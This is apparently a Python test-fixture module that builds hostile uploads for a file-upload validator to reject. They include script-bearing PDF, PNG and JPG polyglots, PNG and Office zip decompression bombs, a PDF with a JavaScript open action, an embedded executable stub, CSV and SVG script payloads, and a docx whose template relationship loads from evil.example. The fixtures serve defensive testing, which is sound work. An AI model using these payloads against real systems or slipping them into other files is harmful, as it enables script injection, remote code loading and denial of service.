"""Files built to attack whoever opens them, shared by the suite and by the black-box run (scripts/fuzz_server.py).

Each is named with the extension it claims; every one must be refused, whoever uploads it and through
whichever form. Polyglots: a real header followed by a web page; bombs: small files that unpack to far more.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf

from tests.evidence import office, png

SCRIPT_PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"
MIB = 1024 * 1024


def pdf_with(change) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def office_with(kind: str = "docx", **members: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(office(kind)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for info in source.infolist():
            package.writestr(info, source.read(info))
        for name, data in members.items():
            package.writestr(name, data)
    return out.getvalue()


def png_bomb() -> bytes:
    """A PNG header claiming 30,000 x 30,000 pixels (900 million) in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def real_pdf_with_a_page_inside() -> bytes:
    """A PDF that qpdf opens (the page is a comment to it), with a web page in its first bytes."""
    body = pdf_with(lambda d: None)
    return body.replace(b"\n", b"\n%" + SCRIPT_PAGE + b"\n", 1)


REMOTE_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def hostile_files(*, large: bool = True) -> dict[str, bytes]:
    """Name -> content. ``large`` adds the two bombs that take a second and 200 MB of memory to build."""
    files = {
        "polyglot.pdf": b"%PDF-1.7\n" + SCRIPT_PAGE + b"\n%%EOF",
        "parsing-polyglot.pdf": real_pdf_with_a_page_inside(),
        "polyglot.png": b"\x89PNG\r\n\x1a\n" + SCRIPT_PAGE,
        "page-after-the-end.png": png() + SCRIPT_PAGE,
        "polyglot.jpg": b"\xff\xd8\xff\xe0" + SCRIPT_PAGE,
        "bomb.png": png_bomb(),
        "javascript.pdf": pdf_with(
            lambda d: setattr(d.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
        ),
        "attachment.pdf": pdf_with(lambda d: d.attachments.__setitem__("x.exe", pikepdf.AttachedFileSpec(d, b"MZ"))),
        "template.docx": office_with(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "macro.docx": office_with(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "page.csv": b"name,note\nA,<script>alert(1)</script>\n",
        "svg.txt": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "nul.csv": b"a,b\n1,\x002\n",
    }
    if large:
        files["bomb.docx"] = office_with(**{"word/media/zeros.bin": b"\x00" * (200 * MIB)})
        # Each member at the per-member ratio floor: only the ratio of the whole package finds this one.
        files["many-member-bomb.docx"] = office_with(**{f"word/media/z{n}.bin": b"\x00" * MIB for n in range(190)})
        files["bomb.xlsx"] = office_with("xlsx", **{f"xl/media/z{n}.bin": b"\x00" * MIB for n in range(190)})
    return files
